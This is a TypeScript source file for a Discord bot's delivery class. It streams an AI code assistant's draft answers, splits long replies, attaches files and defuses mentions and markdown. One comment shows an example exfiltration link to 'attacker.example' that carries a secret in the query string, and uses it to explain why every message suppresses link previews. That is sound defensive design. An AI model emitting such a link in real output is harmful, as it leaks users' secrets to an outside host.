import { ActionRowBuilder, ButtonBuilder, ButtonStyle, escapeMarkdown, MessageFlags, Routes, type REST } from "discord.js";
import { AnswerDraft, type DraftStep } from "../../core/answer-draft.js";
import type { AnswerEvent } from "../../core/answer-events.js";
import type { ChatRequest } from "../../core/chat-request.js";
import { clipText, displayName, displayNote, summarizeList } from "../../core/display-text.js";
import { discordSafeText } from "../../core/mentions.js";
import type { Answer, Delivery, OutgoingFile, StatusUpdate } from "../../core/reply.js";
import { MessagePace } from "../../core/message-pace.js";
import { PacedFlush } from "../../core/paced-flush.js";
import type { Logger } from "../../log.js";
import { feedbackRow } from "./discord-feedback.js";
import { codeBlock } from "../../core/markdown/fenced-code.js";
import { monospaceTable } from "./discord-table.js";
import { DISCORD_MESSAGE_LIMIT, discordMarkdown, splitMessage } from "./discord-text.js";

export const STOP_PREFIX = "codebot_stop:";
const FILES_PER_MESSAGE = 10;
const INLINE_CODE_LIMIT = 1500;
/** Text messages per answer at most; a longer answer comes as answer.md with a preview. */
export const MAX_TEXT_MESSAGES = 4;
const PREVIEW_LIMIT = 1500;
/** Attachments per answer at most (three messages of ten); more are listed as not sent. */
const MAX_ATTACHMENTS = 30;
/** One "not sent" entry: a clipped file name and the reason. */
const NOTE_ENTRY_LIMIT = 120;
const PHASE_EMOJI: Record<StatusUpdate["phase"], string> = { thinking: "💭", running: "⚙️", uploading: "📤" };
/**
 * The answer so far is shown by editing the status message at most once per this many ms: Discord
 * allows about five edits of a channel's messages per five seconds, and the status and typing calls
 * share that room.
 */
export const DISCORD_EDIT_INTERVAL_MS = 1300;
/** Characters of the answer so far shown in the status message (the latest part). */
const DRAFT_TEXT_CHARS = 1500;
/** A table shown inline at most; the whole is attached as CSV. */
const TABLE_CHARS = 1200;
const STEP_LINE_CHARS = 140;
/** No message of the bot pings anyone: not @everyone, not roles, not users. */
const NO_PINGS = { parse: [] as string[] };
/**
 * Every message and edit carries SuppressEmbeds: a link the model or the sandbox wrote
 * (`https://attacker.example/?d=<secret>`) gets no preview, so Discord's servers fetch nothing.
 */
const NO_EMBEDS = MessageFlags.SuppressEmbeds;

interface MessageBody {
  content: string;
  components?: object[];
}

/** Text shown as text: no heading, list, link, emphasis or code markup takes effect. */
function plain(text: string): string {
  return escapeMarkdown(text, { heading: true, bulletedList: true, numberedList: true, maskedLink: true });
}

/** Every message goes through this last: mentions defused, one message's length at most. */
function finalText(markdown: string): string {
  return clipText(discordSafeText(markdown), DISCORD_MESSAGE_LIMIT);
}

function stopButton(eventId: string): object[] {
  return [new ActionRowBuilder<ButtonBuilder>().addComponents(new ButtonBuilder().setCustomId(`${STOP_PREFIX}${eventId}`).setLabel("Stop").setStyle(ButtonStyle.Danger)).toJSON()];
}

/** A step as one small line: "-# ✅ Step 1 · done · 42 (0.4 s)", its outcome shown as text. */
function stepLine(step: DraftStep): string {
  const emoji = step.status === undefined ? "⚙️" : step.status === "ok" ? "✅" : "❌";
  const outcome = step.status === undefined ? "running…" : `${step.outcome ?? step.status}${step.durationMs !== undefined ? ` (${(step.durationMs / 1000).toFixed(1)} s)` : ""}`;
  return `-# ${emoji} Step ${step.step} · ${plain(displayName(outcome, STEP_LINE_CHARS))}`;
}

/** The answer so far, as the status message shows it: the latest part of the text, then the steps. */
function draftContent(draft: AnswerDraft): string {
  const shown = draft.text.slice(0, draft.shownLength());
  const tail = shown.length > DRAFT_TEXT_CHARS ? `…${shown.slice(shown.length - DRAFT_TEXT_CHARS)}` : shown;
  // Rendered as the answer will be; a code block the text leaves open is closed, so the steps below it don't show as code.
  return finalText([discordMarkdown(tail).text, draft.steps.slice(-6).map(stepLine).join("\n")].filter(Boolean).join("\n\n") || "💭 Thinking…");
}

/**
 * The delivery port for Discord, over the REST API only (a worker needs no gateway connection):
 * a status message with a Stop button that becomes the answer's first part, the rest split under
 * 2,000 characters (at most four messages: a longer answer comes as answer.md with a preview),
 * charts and files as attachments (10 per message, oversize ones refused). Every text passes
 * discordSafeText last, allowed_mentions stays empty, and no link gets a preview (SuppressEmbeds).
 */
export class DiscordDelivery implements Delivery {
  private readonly statusMessages = new Map<string, string>();
  /** The answer being written, per request, and the pacer of its status message's edits. */
  private readonly drafts = new Map<string, { view: AnswerDraft; pacer: PacedFlush }>();
  /** Every edit of a request's message (status, draft, answer) at least DISCORD_EDIT_INTERVAL_MS apart. */
  private readonly pace = new MessagePace(DISCORD_EDIT_INTERVAL_MS);

  constructor(
    private readonly rest: REST,
    private readonly maxUploadBytes: number,
    private readonly log: Logger,
  ) {}

  async status(request: ChatRequest, update: StatusUpdate): Promise<void> {
    const channel = request.conversation.channelId;
    await this.rest.post(Routes.channelTyping(channel)).catch(() => undefined);
    // Once the answer is being written, the status message shows it (and its steps) instead.
    if (this.drafts.has(request.eventId)) return;
    await this.show(request, { content: finalText(`${PHASE_EMOJI[update.phase]} ${update.text}`), components: stopButton(request.eventId) });
  }

  async event(request: ChatRequest, event: AnswerEvent): Promise<void> {
    let draft = this.drafts.get(request.eventId);
    if (!draft) {
      const view = new AnswerDraft();
      const pacer = new PacedFlush(() => this.show(request, { content: draftContent(view), components: stopButton(request.eventId) }, true), DISCORD_EDIT_INTERVAL_MS);
      draft = { view, pacer };
      this.drafts.set(request.eventId, draft);
    }
    draft.view.apply(event);
    draft.pacer.request();
  }

  /** The draft's edits end before the answer (or failure) takes the message. */
  /** Ends the drafts; true when there were some (the answer's edit then keeps their pace). */
  private async endDraft(request: ChatRequest): Promise<boolean> {
    const draft = this.drafts.get(request.eventId);
    this.drafts.delete(request.eventId);
    await draft?.pacer.stop();
    return draft !== undefined;
  }

  async answer(request: ChatRequest, answer: Answer): Promise<void> {
    const drafted = await this.endDraft(request);
    const notes = [...answer.skippedFiles];
    const sendable: OutgoingFile[] = [];
    const csvs = answer.tables.flatMap((table) => (table.csv ? [table.csv] : []));
    for (const file of [...answer.images, ...answer.files, ...csvs].map((file) => ({ ...file, name: displayName(file.name) }))) {
      if (file.data.length > this.maxUploadBytes) notes.push(`${file.name} (${(file.data.length / 1048576).toFixed(1)} MB, over Discord's ${Math.round(this.maxUploadBytes / 1048576)} MB upload limit)`);
      else if (sendable.length >= MAX_ATTACHMENTS - 2) notes.push(`${file.name} (at most ${MAX_ATTACHMENTS - 2} files are attached per answer)`);
      else sendable.push(file);
    }
    const notesText = notes.length ? `\n\n-# Not sent: ${summarizeList(notes.map((note) => plain(displayNote(note, NOTE_ENTRY_LIMIT)))).join("; ")}` : "";
    const last = answer.tables.at(-1);
    const table = last ? monospaceTable(last.table, TABLE_CHARS, last.csv ? { csvName: displayName(last.csv.name) } : {}) : undefined;
    const tableNote = table?.note ? `\n-# ${plain(table.note)}` : "";
    const shown = discordMarkdown(answer.markdown);
    let body = `${shown.text}${table ? `\n\n${table.text}${tableNote}` : ""}${answer.facts && answer.steps.length ? `\n\n${answer.steps.map(stepLine).join("\n")}` : ""}`;
    // Code people ran themselves is not echoed back; the model's code is a compact block (or code.py).
    const code = answer.facts ? answer.code.join("\n\n# ---\n\n") : "";
    let codeText = code && code.length <= INLINE_CODE_LIMIT ? `\n-# Code that ran:\n${codeBlock(code, "python")}` : "";
    let chunks = splitMessage(discordSafeText(body + codeText + notesText));
    // Past the chat budget the answer was rendered in part: it comes whole as answer.md.
    if (shown.cut || chunks.length > MAX_TEXT_MESSAGES) {
      sendable.unshift({ name: "answer.md", mime: "text/markdown", data: Buffer.from(answer.markdown) });
      body = `${splitMessage(body, PREVIEW_LIMIT)[0] ?? ""}…\n-# (The full answer is in answer.md.)`;
      chunks = splitMessage(discordSafeText(body + codeText + notesText));
    }
    if (chunks.length > MAX_TEXT_MESSAGES) {
      codeText = "";
      chunks = splitMessage(discordSafeText(body + notesText));
    }
    if (code && !codeText) sendable.push({ name: "code.py", mime: "text/x-python", data: Buffer.from(code) });
    const [first = "", ...rest] = chunks.slice(0, MAX_TEXT_MESSAGES);
    const feedback = answer.facts ? [feedbackRow(request.eventId, answer.facts).toJSON()] : [];
    await this.show(request, { content: first, components: rest.length ? [] : feedback }, drafted);
    this.finished(request);
    for (const [i, chunk] of rest.entries()) await this.post(request, { content: chunk, ...(i === rest.length - 1 ? { components: feedback } : {}) });
    for (let i = 0; i < sendable.length; i += FILES_PER_MESSAGE) {
      await this.post(request, { content: "" }, sendable.slice(i, i + FILES_PER_MESSAGE));
    }
  }

  /** A failure is plain text (it may quote a file name or an error), never markdown. */
  async fail(request: ChatRequest, failure: { message: string }): Promise<void> {
    const drafted = await this.endDraft(request);
    await this.show(request, { content: finalText(`⚠️ ${plain(failure.message)}`), components: [] }, drafted);
    this.finished(request);
  }

  /** The request's message is final: nothing more to track for it. */
  private finished(request: ChatRequest): void {
    const id = this.statusMessages.get(request.eventId);
    if (id) this.pace.forget(id);
    this.statusMessages.delete(request.eventId);
  }

  /** paced: a draft, which waits its turn (MessagePace). */
  private async show(request: ChatRequest, body: MessageBody, paced = false): Promise<void> {
    const id = this.statusMessages.get(request.eventId) ?? request.replyContext.statusMessageId;
    if (id) {
      try {
        if (paced) await this.pace.turn(id);
        else this.pace.mark(id);
        await this.rest.patch(Routes.channelMessage(request.conversation.channelId, id), { body: { ...body, allowed_mentions: NO_PINGS, flags: NO_EMBEDS } });
        this.statusMessages.set(request.eventId, id);
        return;
      } catch (error) {
        this.log.warn({ err: error, requestId: request.eventId }, "could not edit the status message; posting a new one");
      }
    }
    const posted = await this.post(request, body);
    this.statusMessages.set(request.eventId, posted.id);
  }

  private async post(request: ChatRequest, body: MessageBody, files: OutgoingFile[] = []): Promise<{ id: string }> {
    const payload = {
      ...body,
      allowed_mentions: NO_PINGS,
      flags: NO_EMBEDS,
      ...(files.length ? { attachments: files.map((file, i) => ({ id: i, filename: file.name })) } : {}),
    };
    return (await this.rest.post(Routes.channelMessages(request.conversation.channelId), {
      body: payload,
      files: files.map((file, i) => ({ key: `files[${i}]`, name: file.name, data: file.data, contentType: file.mime })),
    })) as { id: string };
  }
}
